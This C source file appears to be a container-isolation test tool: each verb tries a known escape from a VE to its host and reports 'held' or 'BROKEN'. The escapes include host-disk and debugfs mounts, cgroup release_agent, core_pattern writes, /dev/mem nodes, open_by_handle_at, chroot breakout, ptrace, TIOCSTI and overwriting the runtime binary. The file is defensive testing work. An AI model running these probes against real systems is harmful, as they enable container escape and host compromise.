/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * attack — what a VE's root may try against its host, one verb each.
 *
 *     attack VERB [ARG…]
 *
 * Prints one line for each attempt, "held WHAT: why" or "BROKEN WHAT: how", and exits with 1 when
 * anything was BROKEN.  Static, so that it runs in any VE.  tests/attack/ pushes and runs it.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/klog.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <unistd.h>

static int broken;

__attribute__((format(printf, 3, 4))) static void tell(bool held, const char *what, const char *fmt,
                                                       ...)
{
    va_list ap;
    printf("%s %s: ", held ? "held" : "BROKEN", what);
    va_start(ap, fmt);
    vprintf(fmt, ap);
    va_end(ap);
    printf("\n");
    fflush(stdout);
    broken += !held;
}

/* A call that must fail. */
static void refused(const char *what, long result)
{
    tell(result < 0, what, "%s", result < 0 ? strerror(errno) : "it was let through");
}

/* ---- mounts ---- */
static void try_mount(const char *what, const char *source, const char *type, const char *data)
{
    mkdir("/mnt-attack", 0755);
    int r = mount(source, "/mnt-attack", type, 0, data);
    refused(what, r);
    if (r == 0)
        umount2("/mnt-attack", MNT_DETACH);
    rmdir("/mnt-attack");
}

/* A v1 hierarchy may be mounted (it shows the VE's own part): its limits must stay shut. */
static void try_cgroup(const char *controller, const char *file)
{
    static const char *const others[] = {"release_agent", "notify_on_release", "cgroup.procs"};
    char path[128], what[160];
    mkdir("/mnt-attack", 0755);
    if (mount("none", "/mnt-attack", "cgroup", 0, controller) < 0) {
        tell(true, controller, "cgroup v1: %s", strerror(errno));
        rmdir("/mnt-attack");
        return;
    }
    snprintf(path, sizeof(path), "/mnt-attack/%s", file);
    snprintf(what, sizeof(what), "cgroup v1 %s for writing", file);
    refused(what, open(path, O_WRONLY));
    for (size_t i = 0; i < sizeof(others) / sizeof(*others); i++) {
        snprintf(path, sizeof(path), "/mnt-attack/%s", others[i]);
        snprintf(what, sizeof(what), "cgroup v1 %s of %s for writing", others[i], controller);
        refused(what, open(path, O_WRONLY));
    }
    refused("a cgroup v1 of its own", mkdir("/mnt-attack/attack", 0755));
    umount2("/mnt-attack", MNT_DETACH);
    rmdir("/mnt-attack");
}

static int verb_mount(char **argv)
{
    static const char *const disks[] = {"/dev/vda",  "/dev/sda",       "/dev/vda1",
                                        "/dev/sda1", "/dev/nvme0n1p1", "/dev/loop0"};
    for (size_t i = 0; i < sizeof(disks) / sizeof(*disks); i++)
        try_mount(disks[i], disks[i], "ext4", NULL);
    try_mount("debugfs", "none", "debugfs", NULL);
    try_mount("tracefs", "none", "tracefs", NULL);
    try_mount("securityfs", "none", "securityfs", NULL);
    try_mount("configfs", "none", "configfs", NULL);
    try_mount("pstore", "none", "pstore", NULL);
    try_mount("devtmpfs", "none", "devtmpfs", NULL);
    try_cgroup("memory", "memory.limit_in_bytes");
    try_cgroup("pids", "pids.max");
    try_cgroup("devices", "devices.allow");
    try_mount("cgroup v1 release_agent", "none", "cgroup", "none,name=attack,release_agent=/x");
    return 0;
}

static void try_read(const char *path)
{
    char buf[4096];
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof(buf));
    tell(n <= 0, path, "%s", fd < 0 || n < 0 ? strerror(errno) : n ? "bytes of it" : "empty");
    if (fd >= 0)
        close(fd);
}

/* Takes masks off and reads what is below. */
static int verb_unmask(char **argv)
{
    static const char *const masks[] = {
        "/proc/kcore",       "/proc/keys",         "/proc/timer_list",    "/proc/sched_debug",
        "/proc/acpi",        "/proc/scsi",         "/proc/sysrq-trigger", "/proc/sys",
        "/proc/kmsg",        "/sys/firmware",      "/proc/irq",           "/proc/bus",
        "/sys/kernel/debug", "/proc/latency_stats"};
    for (size_t i = 0; i < sizeof(masks) / sizeof(*masks); i++) {
        umount2(masks[i], MNT_DETACH);
        mount(NULL, masks[i], NULL, MS_REMOUNT | MS_BIND, NULL);
    }
    try_read("/proc/kcore");
    try_read("/proc/kmsg");
    int fd = open("/proc/sysrq-trigger", O_WRONLY);
    refused("/proc/sysrq-trigger for writing", fd);
    static const char *const files[] = {"/proc/sys/kernel/core_pattern",
                                        "/proc/sys/kernel/modprobe", "/proc/sys/kernel/sysrq",
                                        "/proc/sys/vm/drop_caches"};
    for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++)
        refused(files[i], open(files[i], O_WRONLY));
    return 0;
}

/* A second proc and sysfs of the VE's own must not show more than the first. */
static int verb_remount(char **argv)
{
    mkdir("/mnt-attack", 0755);
    if (mount("proc", "/mnt-attack", "proc", 0, NULL) == 0) {
        refused("core_pattern through a second proc",
                open("/mnt-attack/sys/kernel/core_pattern", O_WRONLY));
        refused("sysrq-trigger through a second proc", open("/mnt-attack/sysrq-trigger", O_WRONLY));
        char buf[64];
        int fd = open("/mnt-attack/kcore", O_RDONLY);
        refused("kcore through a second proc", fd < 0 ? -1 : read(fd, buf, sizeof(buf)));
        umount2("/mnt-attack", MNT_DETACH);
    } else {
        tell(true, "second proc", "%s", strerror(errno));
    }
    if (mount("sysfs", "/mnt-attack", "sysfs", 0, NULL) == 0) {
        refused("uevent_helper through a second sysfs",
                open("/mnt-attack/kernel/uevent_helper", O_WRONLY));
        refused("module parameter through a second sysfs",
                open("/mnt-attack/module/kernel/parameters/panic", O_WRONLY));
        umount2("/mnt-attack", MNT_DETACH);
    } else {
        tell(true, "second sysfs", "%s", strerror(errno));
    }
    rmdir("/mnt-attack");
    return 0;
}

/* ---- devices ---- */
static void try_node(const char *what, mode_t type, unsigned maj, unsigned min)
{
    char buf[512];
    unlink("/node-attack");
    if (mknod("/node-attack", type | 0600, makedev(maj, min)) < 0) {
        tell(true, what, "mknod: %s", strerror(errno));
        return;
    }
    int fd = open("/node-attack", O_RDONLY | O_NONBLOCK);
    tell(fd < 0, what, "mknod worked, open: %s",
         fd < 0                            ? strerror(errno)
         : read(fd, buf, sizeof(buf)) >= 0 ? "READ"
                                           : "opened");
    if (fd >= 0)
        close(fd);
    unlink("/node-attack");
}

static int verb_mknod(char **argv)
{
    try_node("mem 1:1", S_IFCHR, 1, 1);
    try_node("port 1:4", S_IFCHR, 1, 4);
    try_node("kmsg 1:11", S_IFCHR, 1, 11);
    try_node("tty1 4:1", S_IFCHR, 4, 1);
    try_node("console 5:1", S_IFCHR, 5, 1);
    try_node("fuse 10:229", S_IFCHR, 10, 229);
    try_node("loop-control 10:237", S_IFCHR, 10, 237);
    for (unsigned maj = 7; maj < 260; maj++)
        if (maj == 7 || maj == 8 || maj >= 250 || maj == 202) {
            char what[32];
            snprintf(what, sizeof(what), "block %u:0", maj);
            try_node(what, S_IFBLK, maj, 0);
        }
    return 0;
}

/* Every device node there is: only the harmless may open. */
static int verb_devices(char **argv)
{
    static const char *const fine[] = {"null",    "zero", "full", "random",
                                       "urandom", "tty",  "ptmx", "console"};
    DIR *dir = opendir("/dev");
    for (struct dirent *e; dir && (e = readdir(dir));) {
        struct stat st;
        if (fstatat(dirfd(dir), e->d_name, &st, AT_SYMLINK_NOFOLLOW) < 0 ||
            !(S_ISBLK(st.st_mode) || S_ISCHR(st.st_mode)))
            continue;
        bool known = false;
        for (size_t i = 0; i < sizeof(fine) / sizeof(*fine); i++)
            known |= strcmp(e->d_name, fine[i]) == 0;
        if (known)
            continue;
        int fd = openat(dirfd(dir), e->d_name, O_RDONLY | O_NONBLOCK | O_NOCTTY);
        tell(fd < 0, e->d_name, "device in /dev: %s", fd < 0 ? strerror(errno) : "it opens");
    }
    if (dir)
        closedir(dir);
    static const char *const raw[] = {"/dev/mem",  "/dev/kmem", "/dev/port",
                                      "/dev/kmsg", "/dev/vda",  "/dev/sda"};
    for (size_t i = 0; i < sizeof(raw) / sizeof(*raw); i++)
        refused(raw[i], open(raw[i], O_RDWR | O_NONBLOCK));
    return 0;
}

/* ---- what can be opened for writing under /proc and /sys: the caller judges the list ---- */
static void writable(const char *path, int depth)
{
    DIR *dir = depth < 12 ? opendir(path) : NULL;
    for (struct dirent *e; dir && (e = readdir(dir));) {
        char name[PATH_MAX];
        struct stat st;
        if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
            continue;
        if (snprintf(name, sizeof(name), "%s/%s", path, e->d_name) >= (int)sizeof(name) ||
            lstat(name, &st) < 0)
            continue;
        if (S_ISDIR(st.st_mode)) {
            bool process = strcmp(path, "/proc") == 0 && e->d_name[0] >= '0' && e->d_name[0] <= '9';
            if (!process)
                writable(name, depth + 1);
            continue;
        }
        if (!S_ISREG(st.st_mode))
            continue;
        int fd = open(name, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
        if (fd >= 0) {
            printf("writable %s\n", name);
            close(fd);
        }
    }
    if (dir)
        closedir(dir);
}

static int verb_writable(char **argv)
{
    for (; *argv; argv++)
        writable(*argv, 0);
    return 0;
}

/* ---- system calls ---- */
static int verb_calls(char **argv)
{
    struct timeval tv = {.tv_sec = 1000000000};
    struct timespec ts = {.tv_sec = 1000000000};
    char buf[4096];
    refused("syslog", klogctl(3, buf, sizeof(buf)));
    refused("init_module", syscall(SYS_init_module, buf, sizeof(buf), ""));
    refused("finit_module", syscall(SYS_finit_module, 0, "", 0));
    refused("delete_module", syscall(SYS_delete_module, "dummy", O_NONBLOCK));
    refused("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
    refused("settimeofday", settimeofday(&tv, NULL));
    refused("clock_settime", syscall(SYS_clock_settime, 0, &ts));
    refused("swapon", syscall(SYS_swapon, "/swap-attack", 0));
    refused("acct", syscall(SYS_acct, "/acct-attack"));
    refused("quotactl", syscall(SYS_quotactl, 0x80000700, "/dev/vda", 0, NULL));
    refused("bpf", syscall(SYS_bpf, 0, buf, 64));
    refused("perf_event_open", syscall(SYS_perf_event_open, buf, 0, -1, -1, 0));
    refused("nfsservctl", syscall(SYS_nfsservctl, 0, NULL, NULL));
#ifdef SYS_iopl
    refused("iopl", syscall(SYS_iopl, 3));
    refused("ioperm", syscall(SYS_ioperm, 0x70, 2, 1));
#endif
    refused("userfaultfd", syscall(SYS_userfaultfd, 0));
    refused("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, buf, O_RDONLY));
    refused("lookup_dcookie", syscall(SYS_lookup_dcookie, 0L, buf, sizeof(buf)));
    return 0;
}

/* The "shocker": a file by its handle, beyond the VE's root. */
static int verb_handle(char **argv)
{
    struct {
        unsigned bytes;
        int type;
        unsigned char handle[128];
    } h = {.bytes = 8, .type = 1, .handle = {2}};
    int root = open("/", O_RDONLY | O_DIRECTORY);
    refused("inode 2 by handle from /", syscall(SYS_open_by_handle_at, root, &h, O_RDONLY));
    int mnt;
    h.bytes = sizeof(h.handle);
    if (syscall(SYS_name_to_handle_at, AT_FDCWD, "/etc/hostname", &h, &mnt, 0) == 0)
        refused("a file by its own handle", syscall(SYS_open_by_handle_at, root, &h, O_RDONLY));
    return 0;
}

/* A further user namespace and what its capabilities would open (nesting is off). */
static int verb_namespaces(char **argv)
{
    static const struct {
        int flag;
        const char *name;
    } all[] = {{CLONE_NEWUSER, "unshare user"}};
    for (size_t i = 0; i < sizeof(all) / sizeof(*all); i++) {
        pid_t child = fork();
        if (child == 0)
            _exit(unshare(all[i].flag) < 0 ? errno : 0);
        int status = 0;
        waitpid(child, &status, 0);
        int e = WIFEXITED(status) ? WEXITSTATUS(status) : EPERM;
        tell(e != 0, all[i].name, "%s", e ? strerror(e) : "it was let through");
    }
    return 0;
}

static int run_verb(char **argv);

static bool write_file(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY);
    bool done = fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text);
    if (fd >= 0)
        close(fd);
    return done;
}

/* The same attacks with the capabilities of a user namespace below the VE's. */
static int verb_nested(char **argv)
{
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) {
        tell(true, "nested", "%s", strerror(errno));
        return 0;
    }
    write_file("/proc/self/setgroups", "deny");
    if (!write_file("/proc/self/uid_map", "0 0 1") || !write_file("/proc/self/gid_map", "0 0 1"))
        tell(true, "nested", "no map: %s", strerror(errno));
    return run_verb(argv);
}

/* ---- keys ---- */
static int verb_keys(char **argv)
{
    char buf[256];
    long id = syscall(SYS_request_key, "user", argv[0], NULL, 0xfffffffc);
    refused("request_key of the host's key", id);
    for (int ring = -1; ring >= -8; ring--) {
        char what[64];
        long found = syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, ring, "user", argv[0], 0);
        snprintf(what, sizeof(what), "search in keyring %d", ring);
        refused(what, found);
    }
    if (argv[1]) {
        long serial = strtol(argv[1], NULL, 10);
        refused("read by the key's number",
                syscall(SYS_keyctl, 11 /* KEYCTL_READ */, serial, buf, sizeof(buf)));
        refused("link the key by its number", syscall(SYS_keyctl, 8 /* LINK */, serial, -3));
    }
    FILE *keys = fopen("/proc/keys", "r");
    bool seen = false;
    while (keys && fgets(buf, sizeof(buf), keys))
        seen |= strstr(buf, argv[0]) != NULL;
    tell(!seen, "/proc/keys", "%s", seen ? "lists the host's key" : "does not list it");
    if (keys)
        fclose(keys);
    return 0;
}

/* ---- other processes ---- */
static int verb_processes(char **argv)
{
    unsigned listed = 0, reached = 0;
    DIR *dir = opendir("/proc");
    for (struct dirent *e; dir && (e = readdir(dir));)
        listed += e->d_name[0] >= '0' && e->d_name[0] <= '9';
    if (dir)
        closedir(dir);
    for (int pid = 1; pid < 70000; pid++) {
        char path[64];
        snprintf(path, sizeof(path), "/proc/%d/task/%d", pid, pid);
        if (kill(pid, 0) == 0 || errno == EPERM)
            reached += access(path, F_OK) < 0 ? 1 : 0;
    }
    tell(reached == 0, "signals", "%u processes listed, %u more can be reached", listed, reached);
    int victim = argv[0] ? (int)strtol(argv[0], NULL, 10) : 1;
    char path[64];
    snprintf(path, sizeof(path), "/proc/%d/mem", victim);
    if (victim > 1) {
        refused("memory of the other VE's init by its host pid", open(path, O_RDWR));
        refused("ptrace of it", syscall(SYS_ptrace, 16 /* PTRACE_ATTACH */, victim, 0, 0));
        refused("pidfd of it", syscall(SYS_pidfd_open, victim, 0));
    }
    return 0;
}

/* A file of the other VE (by its unusual name), by every way through /proc. */
static int verb_roots(char **argv)
{
    DIR *dir = opendir("/proc");
    bool found = false;
    for (struct dirent *e; dir && (e = readdir(dir));) {
        static const char *const ways[] = {"root", "cwd", "root/..", "cwd/../../..", "fd"};
        if (e->d_name[0] < '0' || e->d_name[0] > '9')
            continue;
        for (size_t i = 0; i < sizeof(ways) / sizeof(*ways); i++) {
            char path[PATH_MAX];
            snprintf(path, sizeof(path), "/proc/%s/%s/%s", e->d_name, ways[i], argv[0]);
            if (access(path, F_OK) == 0) {
                found = true;
                printf("at %s\n", path);
            }
        }
    }
    if (dir)
        closedir(dir);
    tell(!found, "the other's file", "%s", found ? "is within reach" : "was not found");
    return 0;
}

/* Classic ways up: a chroot below the working directory, and many "..". */
static int verb_chroot(char **argv)
{
    char path[256] = "";
    mkdir("/chroot-attack", 0755);
    int top = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("/chroot-attack") == 0 && fchdir(top) == 0) {
        for (int i = 0; i < 64; i++)
            if (chdir("..") < 0)
                break;
        chroot(".");
    }
    snprintf(path, sizeof(path), "/%s", argv[0]);
    tell(access(path, F_OK) < 0, "the host's file", "%s",
         access(path, F_OK) < 0 ? "was not found" : "is within reach");
    return 0;
}

/* ---- replacing the runtime's binary ---- */
/* Watches for processes that enter the VE and tries to open their program for writing; runs until
 * killed or for argv[0] seconds. */
static int verb_overwrite(char **argv)
{
    int seconds = (int)strtol(argv[0], NULL, 10);
    char own[PATH_MAX] = "", exe[PATH_MAX], path[64];
    if (readlink("/proc/self/exe", own, sizeof(own) - 1) < 0)
        return 1;
    alarm((unsigned)seconds);
    printf("watching\n");
    fflush(stdout);
    for (pid_t self = getpid();;) {
        DIR *dir = opendir("/proc");
        for (struct dirent *e; dir && (e = readdir(dir));) {
            if (e->d_name[0] < '1' || e->d_name[0] > '9' || strtol(e->d_name, NULL, 10) == self)
                continue;
            snprintf(path, sizeof(path), "/proc/%.16s/exe", e->d_name);
            ssize_t n = readlink(path, exe, sizeof(exe) - 1);
            if (n < 0)
                continue;
            exe[n] = '\0';
            if (!strstr(exe, "terem") && !strstr(exe, "memfd"))
                continue;
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            printf("saw %s (%s)\n", exe, fd < 0 ? strerror(errno) : "opened");
            for (int i = 0; fd >= 0 && i < 1000; i++) {
                char again[64];
                snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
                int w = open(again, O_WRONLY | O_TRUNC);
                if (w >= 0) {
                    tell(false, exe, "opened for writing");
                    (void)!write(w, "#!/bin/false\n", 13);
                    close(w);
                    break;
                }
            }
            fflush(stdout);
            if (fd >= 0)
                close(fd);
        }
        if (dir)
            closedir(dir);
    }
}

/* ---- descriptors ---- */
static void list_descriptors(const char *path)
{
    DIR *dir = opendir(path);
    for (struct dirent *e; dir && (e = readdir(dir));) {
        char link[PATH_MAX] = "";
        if (e->d_name[0] == '.' || readlinkat(dirfd(dir), e->d_name, link, sizeof(link) - 1) < 0)
            continue;
        if (strcmp(path, "/proc/self/fd") == 0 && strtol(e->d_name, NULL, 10) == dirfd(dir))
            continue;
        printf("fd %s -> %s\n", e->d_name, link);
    }
    if (dir)
        closedir(dir);
}

static int verb_descriptors(char **argv)
{
    list_descriptors(argv[0] ? argv[0] : "/proc/self/fd");
    return 0;
}

/* ---- terminal ---- */
static int verb_tiocsti(char **argv)
{
    for (int fd = 0; fd < 3; fd++) {
        const char c = '\n';
        char what[32];
        if (!isatty(fd))
            continue;
        snprintf(what, sizeof(what), "TIOCSTI on %d", fd);
        refused(what, ioctl(fd, TIOCSTI, &c));
        snprintf(what, sizeof(what), "TIOCLINUX on %d", fd);
        char sub = 3;
        refused(what, ioctl(fd, 0x541C, &sub));
    }
    return 0;
}

static const struct verb {
    const char *name;
    int (*run)(char **argv);
    int args;
} verbs[] = {
    {"mount", verb_mount, 0},
    {"unmask", verb_unmask, 0},
    {"remount", verb_remount, 0},
    {"mknod", verb_mknod, 0},
    {"devices", verb_devices, 0},
    {"writable", verb_writable, 1},
    {"calls", verb_calls, 0},
    {"handle", verb_handle, 0},
    {"namespaces", verb_namespaces, 0},
    {"keys", verb_keys, 1},
    {"processes", verb_processes, 0},
    {"roots", verb_roots, 1},
    {"chroot", verb_chroot, 1},
    {"overwrite", verb_overwrite, 1},
    {"descriptors", verb_descriptors, 0},
    {"tiocsti", verb_tiocsti, 0},
    {"nested", verb_nested, 1},
};

static int run_verb(char **argv)
{
    int given = 0;
    while (argv[given])
        given++;
    for (size_t i = 0; given && i < sizeof(verbs) / sizeof(*verbs); i++)
        if (strcmp(verbs[i].name, argv[0]) == 0 && given - 1 >= verbs[i].args) {
            int r = verbs[i].run(argv + 1);
            return r || broken ? 1 : 0;
        }
    fprintf(stderr, "usage: attack VERB [ARG…]\n");
    return 2;
}

int main(int argc, char **argv)
{
    return run_verb(argv + 1);
}
